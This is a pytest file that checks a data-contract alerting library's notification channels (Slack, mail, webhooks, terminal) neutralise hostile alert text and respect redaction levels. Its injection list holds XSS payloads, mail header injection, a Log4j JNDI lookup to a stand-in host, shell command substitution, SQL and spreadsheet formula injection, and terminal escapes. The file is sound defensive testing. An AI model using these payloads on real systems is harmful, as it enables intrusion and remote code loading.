"""What strangers write into contracts, through every channel: it is shown, and it does nothing."""

from __future__ import annotations

import json
from dataclasses import fields, replace
from email import message_from_bytes
from email.policy import default
from html.parser import HTMLParser

import pytest

from floe_dagster.notify.letter import Line, Mail, Notice, Post, Print
from floe_dagster.notify.redact import redacted
from floe_dagster.plugins import on_shelf
from tests.channels.alerts import OPENED
from tests.channels.every import OPTIONS

pytestmark = pytest.mark.requirement("D-04")

CHANNELS = on_shelf("floe_dagster.channels", "CHANNEL")
TEXTS = [each.name for each in fields(OPENED) if each.type in ("str", "str | None")]
INJECTIONS = [
    # Slack
    *("<!channel>", "<!here>", "<!everyone>", "<@U0123>", "<#C0123>", "<!subteam^S1>", "<!date^1^x|x>"),
    *(
        "<https://evil.example|your bank>",
        "@channel",
        "@here",
        "@everyone",
        "&lt;!channel&gt;",
        "*x* _y_ ~z~ `c`",
    ),
    # HTML
    *(
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '"><svg onload=alert(1)>',
        "</td></table><h1>x",
    ),
    *(
        "<a href='javascript:alert(1)'>x</a>",
        "<style>*{display:none}</style>",
        "<!--",
        "]]>",
        "&#60;script&#62;",
    ),
    # Markdown
    *(
        "[x](javascript:alert(1))",
        "![x](https://evil.example/p.png)",
        "# heading",
        "| a | b |",
        "```\nx\n```",
    ),
    *("<https://evil.example>", "[x][1]\n\n[1]: https://evil.example", "<at>Everybody</at>"),
    # headers of mail and of HTTP
    *(
        "x\r\nBcc: all@evil.example",
        "x\nSubject: another",
        "x\r\n\r\nanother body",
        "x\r\n.\r\nMAIL FROM:<a@b.c>",
    ),
    *(
        "=?utf-8?q?=0D=0ABcc:_all@evil.example?=",
        "x\x0bBcc: y",
        "x\u2028Bcc: y",
        "\u2029To: y",
        "x\x85Bcc: y",
    ),
    # templates, labels, tables, terminals, JSON
    *(
        "{{ .Labels }}",
        "{% include 'x' %}",
        "${jndi:ldap://evil.example}",
        "$(reboot)",
        "%n%s%x",
        "' OR 1=1 --",
    ),
    *(
        "=HYPERLINK(1)",
        "+1",
        "-1",
        "@SUM(1)",
        "\t=1",
        '{"a": 1}',
        "\x1b[2J\x1b[H",
        "\x1b]8;;http://e\x07x",
        "\x9b2J",
    ),
    *(
        "\u202eevil",
        "\u200b\u200c\ufeff",
        "\x00",
        "\x08\x08",
        "\ud800",
        "\U0001f4a5" * 3,
        "a\u0301" * 9,
        "../../etc",
    ),
]
every_injection = pytest.mark.parametrize("evil", INJECTIONS, ids=repr)


def letters(**changes):
    alert = replace(OPENED, **changes)
    for kind, channel in CHANNELS.items():
        yield kind, channel.write(alert, channel.options.model_validate(OPTIONS[kind]))


def skeleton(value):
    """What there is apart from the texts: keys, kinds and how many of each."""
    match value:
        case dict():
            return {key: skeleton(each) for key, each in value.items()}
        case list():
            return [skeleton(each) for each in value]
        case _:
            return type(value).__name__


def tags(html):
    found = []

    class Page(HTMLParser):
        def handle_starttag(self, tag, attributes):
            found.append((tag, sorted(name for name, _ in attributes)))

    Page().feed(html)
    return found


def shape(letter):
    match letter:
        case Post():
            parts = [json.loads(each) for each in letter.body.decode().strip().split("\n")]
            return [skeleton(each) for each in parts], sorted(letter.headers)
        case Mail():
            mail = message_from_bytes(letter.message, policy=default)
            html = mail.get_body(("html",)).get_content()
            text = mail.get_body(("plain",)).get_content()
            return list(mail.keys()), tags(html), len(text.splitlines()), letter.recipients
        case Notice():
            return len(letter.title.splitlines()), len(letter.body.splitlines())
        case Line():
            return len(letter.text.splitlines()), skeleton(json.loads(letter.text))
        case Print():
            return len(letter.text.splitlines())


HARMLESS = {
    kind: shape(letter) for kind, letter in letters(**(dict.fromkeys(TEXTS, "harmless") | {"link": None}))
}


def test_there_are_enough_of_them():
    assert len(INJECTIONS) >= 40
    assert len(set(INJECTIONS)) == len(INJECTIONS)


@every_injection
def test_a_hostile_text_everywhere_leaves_every_letter_of_the_same_shape(evil):
    found = {kind: shape(letter) for kind, letter in letters(**(dict.fromkeys(TEXTS, evil) | {"link": None}))}
    assert found == HARMLESS


@every_injection
def test_a_hostile_link_is_followed_nowhere(evil):
    for kind, letter in letters(link=evil):
        match letter:
            case Post(body=body):
                assert b"Look in Dagster" not in body
                assert kind == "webhook" or b"generatorURL" not in body
            case Mail(message=message):
                assert b"href" not in message
            case Notice(body=body):
                assert body.splitlines()[-1].startswith("Episode: ")


@every_injection
def test_headers_of_http_hold_nothing_of_an_alert_but_its_id(evil):
    texts = {name: evil for name in TEXTS if name != "id"}
    assert {kind: letter.headers for kind, letter in letters(**texts) if isinstance(letter, Post)} == {
        kind: letter.headers for kind, letter in letters() if isinstance(letter, Post)
    }


@every_injection
def test_a_hostile_name_in_what_stands_around_leaves_every_letter_of_the_same_shape(evil):
    harmless = dict.fromkeys(("downstream", "background", "consumers"), ("harmless", "harmless"))
    found = {kind: shape(letter) for kind, letter in letters(**dict.fromkeys(harmless, (evil, evil)))}
    assert found == {kind: shape(letter) for kind, letter in letters(**harmless)}


@every_injection
def test_a_hostile_runbook_is_followed_nowhere(evil):
    for kind, letter in letters(link=None, runbook=evil, source_link=evil):
        text = everything(letter)
        assert "What to do" not in text
        assert "Read the promise" not in text
        assert kind == "webhook" or "runbook_url" not in text


def everything(letter):
    """What stands in a letter, in any form."""
    match letter:
        case Post():
            return letter.body.decode()
        case Mail():
            mail = message_from_bytes(letter.message, policy=default)
            return "".join(mail.get_body((form,)).get_content() for form in ("html", "plain"))
        case Notice():
            return f"{letter.title}\n{letter.body}"
        case Line() | Print():
            return letter.text


def test_neither_the_promise_nor_the_number_is_cut_whatever_else_is():
    names = ("message", "title", "contract_title", "server", "owner", "source")
    long = dict.fromkeys(names, "x" * 50_000)
    around = dict.fromkeys(("consumers", "downstream", "background"), ("y" * 5000,) * 50)
    told = dict(letters(**long, **around, expected="at most 4,217 rows", actual=98765))
    assert [kind for kind, each in told.items() if "4,217 rows" not in everything(each)] == []
    assert [kind for kind, each in told.items() if "98765" not in everything(each)] == []


@pytest.mark.requirement("D-07")
@pytest.mark.parametrize("detail", ["reader", "minimal"])
def test_no_channel_shows_more_than_its_level(detail):
    canary = 'orders cannot be read: server at "canary-db" (10.1.2.3), /srv/canary/x.db, select canary from x'
    alert = replace(
        OPENED,
        message=canary,
        title=canary,
        expected=canary,
        actual="canary",
        background=(canary,),
        source="/canary",
    )
    shown = redacted(alert, detail)
    for kind, channel in CHANNELS.items():
        text = everything(channel.write(shown, channel.options.model_validate(OPTIONS[kind])))
        assert [each for each in ("canary", "10.1.2.3", "/srv") if each in text] == [], kind
